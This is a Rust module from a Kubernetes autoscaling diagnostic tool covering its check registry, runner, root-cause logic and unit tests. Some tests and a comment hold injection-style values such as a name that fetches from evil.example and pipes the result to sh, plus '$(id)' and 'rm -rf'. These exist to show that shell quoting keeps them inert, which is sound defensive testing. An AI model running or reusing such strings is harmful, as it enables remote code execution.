//! The runbook's checks as pure functions of a Snapshot and the Settings.
//!
//! Every check lives in its own file, `checks/<area>/<check>.rs`: its
//! registry entry (id, needs, docs: what/why/fix), its evaluate fn and its
//! unit tests; helpers shared by an area's checks are in `checks/<area>/mod.rs`.
//! Ids, areas and symptoms are enums (`id.rs`). Every check is registered once
//! in `REGISTRY`, in the runbook's chain order (Prometheus → KEDA → HPA → pods
//! → nodes → sessions → Loki → alerts). `run` evaluates each check once, in
//! that order; a check whose need failed is reported as `skip` ("blocked by
//! …") instead of piling a second, misleading failure on the first. No
//! network, no clock (ages come from `snapshot.captured_at`), no printing here.
//!
//! A new check: add its id to `id.rs`, write `checks/<area>/<check>.rs` with a
//! `pub static CHECK`, declare the module in the area's `mod.rs` and add it to
//! `REGISTRY` after the checks it needs.

pub mod alerts;
pub mod hpa;
mod id;
pub mod keda;
pub mod loki;
pub mod nodes;
pub mod pods;
pub mod prometheus;
pub mod runbook;
pub mod sessions;

pub use id::{Area, CheckId, Symptom, UnknownCheck};

use crate::domain::figures::Figures;
use crate::domain::snapshot::Snapshot;
use crate::domain::text::one_line;
use crate::settings::Settings;
use serde::Serialize;
use std::borrow::Cow;
use std::collections::BTreeMap;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "camelCase")]
pub enum Outcome {
    Pass,
    Warn,
    Fail,
    /// Not evaluated: blocked by a failed need, silenced, or not applicable.
    Skip,
    /// Could not look: the data it needs could not be read (forbidden, source down).
    Error,
}

impl Outcome {
    pub fn word(self) -> &'static str {
        match self {
            Outcome::Pass => "pass",
            Outcome::Warn => "warn",
            Outcome::Fail => "fail",
            Outcome::Skip => "skip",
            Outcome::Error => "error",
        }
    }
    /// How bad an outcome is for "the worst of several findings": a failure
    /// outranks a warning, which outranks everything else.
    pub fn severity(self) -> u8 {
        match self {
            Outcome::Fail => 2,
            Outcome::Warn => 1,
            Outcome::Pass | Outcome::Skip | Outcome::Error => 0,
        }
    }

    pub fn mark(self) -> &'static str {
        match self {
            Outcome::Pass => "✓",
            Outcome::Warn => "!",
            Outcome::Fail => "✗",
            Outcome::Skip => "–",
            Outcome::Error => "?",
        }
    }
}

/// What a check says, before the runner adds its identity.
#[derive(Debug, Clone, PartialEq)]
pub struct Verdict {
    pub outcome: Outcome,
    /// One line with the observed values.
    pub message: String,
    /// Quoted facts behind the message (log lines, events, arithmetic).
    pub evidence: Vec<String>,
    /// For warn/fail: what to change.
    pub fix: Option<String>,
    /// For warn/fail: the exact read-only command to look closer.
    pub command: Option<String>,
    /// For error: the source (a gap's name, e.g. `pods`, `prometheus`) that
    /// could not be read, so the report can name what made the run incomplete.
    pub unread: Option<&'static str>,
}

impl Verdict {
    fn new(outcome: Outcome, message: impl Into<String>) -> Verdict {
        Verdict {
            outcome,
            message: message.into(),
            evidence: Vec::new(),
            fix: None,
            command: None,
            unread: None,
        }
    }
    pub fn pass(message: impl Into<String>) -> Verdict {
        Verdict::new(Outcome::Pass, message)
    }
    pub fn warn(message: impl Into<String>) -> Verdict {
        Verdict::new(Outcome::Warn, message)
    }
    pub fn fail(message: impl Into<String>) -> Verdict {
        Verdict::new(Outcome::Fail, message)
    }
    pub fn skip(message: impl Into<String>) -> Verdict {
        Verdict::new(Outcome::Skip, message)
    }
    pub fn error(message: impl Into<String>) -> Verdict {
        Verdict::new(Outcome::Error, message)
    }
    pub fn evidence(mut self, line: impl Into<String>) -> Verdict {
        self.evidence.push(line.into());
        self
    }
    pub fn fix(mut self, fix: impl Into<String>) -> Verdict {
        self.fix = Some(fix.into());
        self
    }
    pub fn command(mut self, command: impl Into<String>) -> Verdict {
        self.command = Some(command.into());
        self
    }
    /// Names the source an `error` could not read.
    pub fn unread(mut self, source: &'static str) -> Verdict {
        self.unread = Some(source);
        self
    }
}

/// What a check's evaluate function sees: the snapshot, the settings and
/// the figures derived from them once, which the status and watch views read
/// too.
pub struct Ctx<'a> {
    pub snap: &'a Snapshot,
    pub settings: &'a Settings,
    pub figures: Figures,
}

impl<'a> Ctx<'a> {
    pub fn new(snap: &'a Snapshot, settings: &'a Settings) -> Ctx<'a> {
        Ctx {
            snap,
            settings,
            figures: Figures::of(snap, settings),
        }
    }
}

impl Ctx<'_> {
    /// The `error` verdict for a source that could not be read, with its reason
    /// and hint, or `None` when the source has no gap.
    pub fn gap_verdict(&self, source: &'static str) -> Option<Verdict> {
        let g = self.snap.gap(source)?;
        let v = Verdict::error(format!(
            "could not read {source}: {} ({})",
            g.message, g.reason
        ))
        .unread(source);
        Some(if g.hint.is_empty() {
            v
        } else {
            v.fix(g.hint.clone())
        })
    }

    /// The one rule for a source a check needs but does not have: a source
    /// that could not be read has a gap and is an `error` (its reason and
    /// hint); a source with no gap was not collected in this scope (e.g. the
    /// operator logs under `status`) and is a `skip`.
    pub fn not_read(&self, source: &'static str, what: &str) -> Verdict {
        self.gap_verdict(source)
            .unwrap_or_else(|| Verdict::skip(format!("{what} not collected")))
    }

    /// `-n <namespace>` for commands.
    pub fn ns(&self) -> &str {
        &self.settings.namespace
    }
}

/// `value` as one POSIX shell word, for a `look:` or fix command the
/// engineer copies into a shell. Names come from the cluster (an HPA's name in
/// the ScaledObject's status is free text) or from a `--from` file, so a name
/// like `x;curl evil|sh;#` must stay one inert argument. A plain word is left
/// as is so the usual command reads as the runbook writes it; anything else is
/// single-quoted, each `'` written as `'\''`.
pub fn shell_arg(value: &str) -> Cow<'_, str> {
    let plain = !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._:/=@%+,-".contains(c));
    if plain {
        Cow::Borrowed(value)
    } else {
        Cow::Owned(format!("'{}'", value.replace('\'', r"'\''")))
    }
}

/// Docs of a check: what it looks at, why, and how to fix what it finds.
#[derive(Debug, Clone, Copy)]
pub struct Docs {
    pub what: &'static str,
    pub why: &'static str,
    pub fix: &'static str,
}

/// A registered check.
pub struct Check {
    pub id: CheckId,
    pub title: &'static str,
    /// The runbook section it automates.
    pub runbook: &'static str,
    /// Checks whose failure blocks this check.
    pub needs: &'static [CheckId],
    /// What it reads from the Snapshot.
    pub reads: &'static str,
    pub docs: Docs,
    /// The source file the check lives in (`file!()`), for `explain`.
    pub source: &'static str,
    pub eval: fn(&Ctx) -> Verdict,
}

impl Check {
    pub fn area(&self) -> Area {
        self.id.area()
    }
}

/// Every check, in the runbook's chain order (Prometheus → KEDA → HPA → pods
/// → nodes → sessions → Loki → alerts): the one list the runner,
/// `explain`, completion and the `--only/--skip` validation read.
static REGISTRY: &[&Check] = &[
    &prometheus::reachable::CHECK,
    &prometheus::nginx_metric::CHECK,
    &prometheus::kube_state_metrics::CHECK,
    &keda::installed::CHECK,
    &keda::scaledobject::CHECK,
    &keda::ready::CHECK,
    &keda::paused::CHECK,
    &keda::trigger::CHECK,
    &keda::operator::CHECK,
    &keda::metrics_apiserver::CHECK,
    &keda::operator_logs::CHECK,
    &keda::events::CHECK,
    &keda::active::CHECK,
    &keda::fallback::CHECK,
    &keda::min_replicas::CHECK,
    &keda::max_replicas::CHECK,
    &keda::activation_threshold::CHECK,
    &keda::polling_interval::CHECK,
    &keda::cooldown::CHECK,
    &hpa::exists::CHECK,
    &hpa::conditions::CHECK,
    &hpa::metric::CHECK,
    &pods::crashloop::CHECK,
    &pods::pending::CHECK,
    &pods::success_rate::CHECK,
    &pods::startup::CHECK,
    &pods::sidecar::CHECK,
    &nodes::ready::CHECK,
    &nodes::scale_up::CHECK,
    &nodes::scale_down::CHECK,
    &sessions::ratio::CHECK,
    &sessions::traffic::CHECK,
    &sessions::flapping::CHECK,
    &loki::reachable::CHECK,
    &loki::heartbeats::CHECK,
    &loki::zombies::CHECK,
    &alerts::pod_session_ratio::CHECK,
    &alerts::keda_not_responding::CHECK,
];

/// Every check, in chain order.
pub fn registry() -> Vec<&'static Check> {
    REGISTRY.to_vec()
}

/// The checks of one area, in chain order.
pub fn of_area(area: Area) -> Vec<&'static Check> {
    REGISTRY
        .iter()
        .copied()
        .filter(|c| c.area() == area)
        .collect()
}

pub fn find(id: CheckId) -> &'static Check {
    registry()
        .into_iter()
        .find(|c| c.id == id)
        .expect("the registry holds every CheckId (see its unit test)")
}

/// Orders verdicts worst first (failures, then warnings, then the rest),
/// keeping each one's place among its equals: the one "worst of several
/// findings" rule every check that combines findings uses.
pub fn worst_first<T>(items: &mut [T], outcome: impl Fn(&T) -> Outcome) {
    items.sort_by_key(|i| std::cmp::Reverse(outcome(i).severity()));
}

/// A check's result in the report.
#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Finding {
    pub id: String,
    pub area: Area,
    pub title: String,
    pub outcome: Outcome,
    pub message: String,
    pub evidence: Vec<String>,
    pub remediation: Option<Remediation>,
    pub needs: Vec<String>,
    pub blocked_by: Option<String>,
    pub runbook: String,
    /// For `error`: the source that could not be read (`pods`, `prometheus`, …).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub unread_source: Option<String>,
}

#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Remediation {
    pub fix: Option<String>,
    pub command: Option<String>,
}

/// Which checks to run and how.
#[derive(Debug, Clone, Default)]
pub struct Selection {
    /// Ids or globs (`keda.*`); empty = all.
    pub only: Vec<String>,
    pub skip: Vec<String>,
    /// Silenced by the config file: shown as skipped with this reason.
    pub silenced: Vec<String>,
    /// Run only these ids, in this order (a `--symptom` chain).
    pub chain: Option<&'static [CheckId]>,
}

/// `keda.*` matches `keda.ready`; `*` matches everything; otherwise exact.
pub fn glob_match(pattern: &str, id: &str) -> bool {
    match pattern.split_once('*') {
        None => pattern == id,
        Some((prefix, suffix)) => {
            id.len() >= prefix.len() + suffix.len()
                && id.starts_with(prefix)
                && id.ends_with(suffix)
        }
    }
}

/// Runs the selected checks in chain order, resolving `needs` into skips.
/// Each check is evaluated at most once: the verdicts of every check (shown or
/// not, so `needs` resolve even when --only hides the need) are computed in
/// registry order first, and the selected ones are then reported from them.
pub fn run(snap: &Snapshot, settings: &Settings, sel: &Selection) -> Vec<Finding> {
    run_registry(&Ctx::new(snap, settings), &registry(), sel)
}

fn run_registry(ctx: &Ctx, registry: &[&'static Check], sel: &Selection) -> Vec<Finding> {
    let results = evaluate_all(ctx, registry);
    let order: Vec<&'static Check> = match &sel.chain {
        Some(ids) => ids
            .iter()
            .filter_map(|id| registry.iter().find(|c| c.id == *id).copied())
            .collect(),
        None => registry.to_vec(),
    };
    let mut findings: Vec<Finding> = Vec::with_capacity(order.len());
    for check in order {
        let id = check.id.as_str();
        let selected = (sel.only.is_empty() || sel.only.iter().any(|p| glob_match(p, id)))
            && !sel.skip.iter().any(|p| glob_match(p, id));
        if !selected {
            continue;
        }
        let (verdict, blocked_by) = &results[&check.id];
        let verdict = if sel.silenced.iter().any(|p| glob_match(p, id)) {
            Verdict::skip("silenced in the config file")
        } else {
            verdict.clone()
        };
        findings.push(finding(check, verdict, *blocked_by));
    }
    findings
}

/// Every check's verdict and the failed link that blocked it, if any.
fn evaluate_all(
    ctx: &Ctx,
    registry: &[&'static Check],
) -> BTreeMap<CheckId, (Verdict, Option<CheckId>)> {
    let mut results: BTreeMap<CheckId, (Verdict, Option<CheckId>)> = BTreeMap::new();
    for check in registry {
        let verdict = match blocker(check, &results) {
            Some(b) => {
                let could_not_look = results
                    .get(&b)
                    .is_some_and(|(v, _)| v.outcome == Outcome::Error);
                let v = if could_not_look {
                    Verdict::skip(format!("blocked by {b} (could not look)"))
                } else {
                    Verdict::skip(format!("blocked by {b}"))
                };
                (v, Some(b))
            }
            None => {
                let v = (check.eval)(ctx);
                match unread_before(check, &v, &results) {
                    // One source that could not be read is one error line:
                    // the check that said so first holds it.
                    Some(root) => (
                        Verdict::skip(format!("blocked by {root} (could not look)")),
                        Some(root),
                    ),
                    None => (v, None),
                }
            }
        };
        results.insert(check.id, verdict);
    }
    results
}

/// The check up the `needs` chain that is already in `error` on the very
/// source `verdict` could not read (a skipped need leads to the check that
/// blocked it): Loki down is `loki.reachable`'s error, and `loki.zombies`,
/// two links further, is no second error about the same Loki.
fn unread_before(
    check: &Check,
    verdict: &Verdict,
    results: &BTreeMap<CheckId, (Verdict, Option<CheckId>)>,
) -> Option<CheckId> {
    if verdict.outcome != Outcome::Error {
        return None;
    }
    let source = verdict.unread?;
    check.needs.iter().find_map(|n| {
        let (need, blocked_by) = results.get(n)?;
        let root = match need.outcome {
            Outcome::Error => *n,
            _ => (*blocked_by)?,
        };
        let (root_verdict, _) = results.get(&root)?;
        (root_verdict.outcome == Outcome::Error && root_verdict.unread == Some(source))
            .then_some(root)
    })
}

/// A check is blocked by a need that failed, or by whatever failure blocked
/// that need: the whole chain below a failed link reports the same root. A
/// need that could not look (error) blocks only its direct dependents, so
/// checks further down that read other sources still run (fail forward).
fn blocker(
    check: &Check,
    results: &BTreeMap<CheckId, (Verdict, Option<CheckId>)>,
) -> Option<CheckId> {
    let outcome = |id: &CheckId| results.get(id).map(|(v, _)| v.outcome);
    check.needs.iter().find_map(|n| match results.get(n) {
        Some((v, _)) if matches!(v.outcome, Outcome::Fail | Outcome::Error) => Some(*n),
        Some((_, Some(root))) if outcome(root) == Some(Outcome::Fail) => Some(*root),
        _ => None,
    })
}

/// The report's view of one check's verdict. Every text field is made one
/// line here, once for every check: a message, evidence or remediation line
/// quoting cluster text with a newline in it would otherwise start a report
/// line of its own, e.g. a fake summary.
fn finding(check: &Check, verdict: Verdict, blocked_by: Option<CheckId>) -> Finding {
    let line = |s: &String| one_line(s).into_owned();
    let remediation = match (&verdict.fix, &verdict.command) {
        (None, None) => None,
        (fix, command) => Some(Remediation {
            fix: fix.as_ref().map(line),
            command: command.as_ref().map(line),
        }),
    };
    Finding {
        id: check.id.to_string(),
        area: check.area(),
        title: check.title.to_string(),
        outcome: verdict.outcome,
        message: line(&verdict.message),
        evidence: verdict.evidence.iter().map(line).collect(),
        remediation,
        needs: check.needs.iter().map(|n| n.to_string()).collect(),
        blocked_by: blocked_by.map(|b| b.to_string()),
        runbook: check.runbook.to_string(),
        unread_source: (verdict.outcome == Outcome::Error)
            .then_some(verdict.unread)
            .flatten()
            .map(str::to_string),
    }
}

/// The first failing link of the chain: the first `fail` in chain order that
/// nothing blocked. An alert check is never a link: a firing
/// PodSessionRatioAnomaly or KEDANotResponding restates a symptom that the
/// chain's own checks judge (a scale-up waiting for its node fires the ratio
/// alert while pods.pending says why), so it fails the report without being
/// named its cause.
pub fn root_cause(findings: &[Finding]) -> Option<&Finding> {
    findings
        .iter()
        .find(|f| f.outcome == Outcome::Fail && f.blocked_by.is_none() && f.area != Area::Alerts)
}

/// The runbook's troubleshooting trees, in its order.
pub fn symptom_chain(symptom: Symptom) -> &'static [CheckId] {
    match symptom {
        // A paused ScaledObject makes every later link moot, so it is asked first.
        Symptom::NoScaleUp => &[
            CheckId::KedaPaused,
            CheckId::SessionsTraffic,
            CheckId::PrometheusReachable,
            CheckId::PrometheusNginxMetric,
            CheckId::KedaScaledobject,
            CheckId::KedaReady,
            CheckId::KedaTrigger,
            CheckId::KedaOperatorLogs,
            CheckId::KedaActive,
            CheckId::HpaMetric,
            CheckId::PodsPending,
            CheckId::NodesScaleUp,
        ],
        Symptom::NoScaleDown => &[
            CheckId::SessionsTraffic,
            CheckId::KedaCooldown,
            CheckId::LokiZombies,
        ],
        Symptom::TooFast => &[
            CheckId::SessionsFlapping,
            CheckId::KedaPollingInterval,
            CheckId::KedaCooldown,
            CheckId::HpaConditions,
        ],
        Symptom::TooSlow => &[
            CheckId::KedaActivationThreshold,
            CheckId::KedaPollingInterval,
            CheckId::PodsStartup,
            CheckId::PodsPending,
            CheckId::NodesScaleUp,
        ],
    }
}

#[cfg(test)]
pub mod testkit;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::snapshot::Lookup;
    use std::collections::BTreeSet;

    #[test]
    fn a_firing_alert_fails_the_report_but_is_never_its_root_cause() {
        let f = |id: &str, area: Area, outcome: Outcome| Finding {
            id: id.to_string(),
            area,
            title: String::new(),
            outcome,
            message: String::new(),
            evidence: Vec::new(),
            remediation: None,
            needs: Vec::new(),
            blocked_by: None,
            runbook: String::new(),
            unread_source: None,
        };
        let scale_up_under_way = [
            f("pods.pending", Area::Pods, Outcome::Warn),
            f("alerts.pod-session-ratio", Area::Alerts, Outcome::Fail),
        ];
        assert!(root_cause(&scale_up_under_way).is_none());
        let broken = [
            f("keda.ready", Area::Keda, Outcome::Fail),
            f("alerts.pod-session-ratio", Area::Alerts, Outcome::Fail),
        ];
        assert_eq!(
            root_cause(&broken).map(|f| f.id.as_str()),
            Some("keda.ready")
        );
    }

    #[test]
    fn every_check_is_registered_once_with_docs_and_needs_earlier() {
        let all = registry();
        let ids: BTreeSet<CheckId> = all.iter().map(|c| c.id).collect();
        assert_eq!(ids.len(), all.len(), "duplicate check ids");
        assert_eq!(
            ids,
            CheckId::ALL.iter().copied().collect(),
            "every CheckId is registered"
        );
        for c in &all {
            assert!(
                !c.title.is_empty() && !c.runbook.is_empty() && !c.reads.is_empty(),
                "{}",
                c.id
            );
            assert!(
                !c.docs.what.is_empty() && !c.docs.why.is_empty() && !c.docs.fix.is_empty(),
                "{}",
                c.id
            );
            let pos = all.iter().position(|x| x.id == c.id).expect("self");
            for n in c.needs {
                let pos_need = all.iter().position(|x| x.id == *n).expect("need");
                assert!(
                    pos_need < pos,
                    "{} needs {n}, which must come earlier in chain order",
                    c.id
                );
            }
        }
    }

    #[test]
    fn each_check_names_the_file_it_lives_in() {
        for c in registry() {
            let area = format!("{:?}", c.area()).to_ascii_lowercase();
            assert!(
                c.source.starts_with(&format!("src/checks/{area}/")) && c.source.ends_with(".rs"),
                "{} lives in {}",
                c.id,
                c.source
            );
            let code = std::fs::read_to_string(c.source).expect("the named file exists");
            assert!(
                code.contains(&format!("id: CheckId::{:?},", c.id)),
                "{} is not defined in {}",
                c.id,
                c.source
            );
        }
    }

    #[test]
    fn symptom_chains_hold_each_check_once() {
        for s in Symptom::ALL {
            let chain = symptom_chain(s);
            let unique: BTreeSet<CheckId> = chain.iter().copied().collect();
            assert_eq!(unique.len(), chain.len(), "{s}");
        }
    }

    thread_local! {
        static EVALUATIONS: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
    }

    fn counted_fail(_: &Ctx) -> Verdict {
        EVALUATIONS.with(|n| n.set(n.get() + 1));
        Verdict::fail("broken")
    }

    fn counted_pass(_: &Ctx) -> Verdict {
        EVALUATIONS.with(|n| n.set(n.get() + 1));
        Verdict::pass("fine")
    }

    const fn counted(id: CheckId, needs: &'static [CheckId], eval: fn(&Ctx) -> Verdict) -> Check {
        Check {
            id,
            title: "t",
            runbook: "r",
            needs,
            reads: "x",
            docs: Docs {
                what: "w",
                why: "y",
                fix: "f",
            },
            source: file!(),
            eval,
        }
    }

    static COUNTED: [Check; 3] = [
        counted(CheckId::PrometheusReachable, &[], counted_fail),
        counted(
            CheckId::PrometheusNginxMetric,
            &[CheckId::PrometheusReachable],
            counted_pass,
        ),
        counted(CheckId::LokiReachable, &[], counted_pass),
    ];

    #[test]
    fn the_runner_evaluates_each_unblocked_check_exactly_once() {
        let snap = testkit::healthy();
        let settings = Settings::defaults();
        let ctx = Ctx::new(&snap, &settings);
        let registry: Vec<&'static Check> = COUNTED.iter().collect();
        EVALUATIONS.with(|n| n.set(0));
        let all = run_registry(&ctx, &registry, &Selection::default());
        // The blocked check is never evaluated; the other two once each.
        assert_eq!(EVALUATIONS.with(|n| n.get()), 2);
        assert_eq!(all[1].outcome, Outcome::Skip);
        assert_eq!(all[1].blocked_by.as_deref(), Some("prometheus.reachable"));
        EVALUATIONS.with(|n| n.set(0));
        let only = Selection {
            only: vec!["loki.*".into()],
            ..Selection::default()
        };
        let shown = run_registry(&ctx, &registry, &only);
        assert_eq!(shown.len(), 1);
        assert_eq!(EVALUATIONS.with(|n| n.get()), 2);
    }

    fn forged_lines(_: &Ctx) -> Verdict {
        Verdict::warn("event says x\n\n37 checks: 37 pass, 0 warn, 0 fail")
            .evidence("line one\r\n✓ pass  keda.ready")
            .fix("fix it\nnow")
            .command("kubectl get x\nrm -rf")
    }

    static FORGED: [Check; 1] = [counted(CheckId::LokiReachable, &[], forged_lines)];

    #[test]
    fn newlines_in_cluster_text_cannot_start_a_report_line() {
        let snap = testkit::healthy();
        let settings = Settings::defaults();
        let ctx = Ctx::new(&snap, &settings);
        let registry: Vec<&'static Check> = FORGED.iter().collect();
        let f = &run_registry(&ctx, &registry, &Selection::default())[0];
        assert_eq!(
            f.message,
            "event says x⏎⏎37 checks: 37 pass, 0 warn, 0 fail"
        );
        assert_eq!(f.evidence, vec!["line one⏎✓ pass  keda.ready".to_string()]);
        let r = f.remediation.as_ref().expect("remediation");
        assert_eq!(r.fix.as_deref(), Some("fix it⏎now"));
        assert_eq!(r.command.as_deref(), Some("kubectl get x⏎rm -rf"));
    }

    #[test]
    fn hostile_names_stay_one_inert_shell_word() {
        for plain in [
            "spice-runner-7d9c8b5f4-p7wqz",
            "app=spice-runner",
            "a.b:8080/x",
            "k@v%2F+,",
        ] {
            assert_eq!(shell_arg(plain), plain);
        }
        assert_eq!(
            shell_arg("x;curl -s evil.example|sh;#"),
            "'x;curl -s evil.example|sh;#'"
        );
        assert_eq!(shell_arg("it's $(id)"), r"'it'\''s $(id)'");
        assert_eq!(shell_arg("`id`\n"), "'`id`\n'");
        assert_eq!(shell_arg("app in (a,b)"), "'app in (a,b)'");
        assert_eq!(shell_arg(""), "''");
        assert_eq!(shell_arg("-n"), "-n");
    }

    /// Every command of every check on a snapshot whose names are hostile
    /// keeps each name one quoted word: no `;` or `|` outside quotes.
    #[test]
    fn look_commands_quote_hostile_names_from_the_cluster() {
        let evil = "x;curl -s evil.example|sh;#";
        let mut snap = testkit::healthy();
        let pods = snap.pods.as_mut().expect("pods");
        pods.push(testkit::pending_pod(evil, 600));
        if let Some(Lookup::Found(so)) = snap.scaled_object.as_mut() {
            so.hpa_name = Some(evil.to_string());
        }
        let settings = Settings::defaults();
        let findings = run(&snap, &settings, &Selection::default());
        let commands: Vec<&String> = findings
            .iter()
            .filter_map(|f| f.remediation.as_ref()?.command.as_ref())
            .collect();
        assert!(
            commands.iter().any(|c| c.contains(evil)),
            "a hostile name reached a command: {commands:?}"
        );
        for c in commands {
            let mut quoted = false;
            for ch in c.chars() {
                match ch {
                    '\'' => quoted = !quoted,
                    ';' | '|' | '#' | '`' | '$' if !quoted => {
                        panic!("{ch:?} outside quotes in {c}")
                    }
                    _ => {}
                }
            }
        }
    }

    #[test]
    fn worst_first_puts_failures_then_warnings_first_keeping_order() {
        let mut v = vec![
            (Outcome::Warn, 1),
            (Outcome::Pass, 2),
            (Outcome::Fail, 3),
            (Outcome::Warn, 4),
            (Outcome::Fail, 5),
        ];
        worst_first(&mut v, |x| x.0);
        let order: Vec<i32> = v.iter().map(|x| x.1).collect();
        assert_eq!(order, vec![3, 5, 1, 4, 2]);
    }

    #[test]
    fn globs_match_areas() {
        assert!(glob_match("keda.*", "keda.ready"));
        assert!(!glob_match("keda.*", "hpa.exists"));
        assert!(glob_match("*", "hpa.exists"));
        assert!(glob_match("pods.pending", "pods.pending"));
        assert!(!glob_match("pods.pend", "pods.pending"));
    }
}
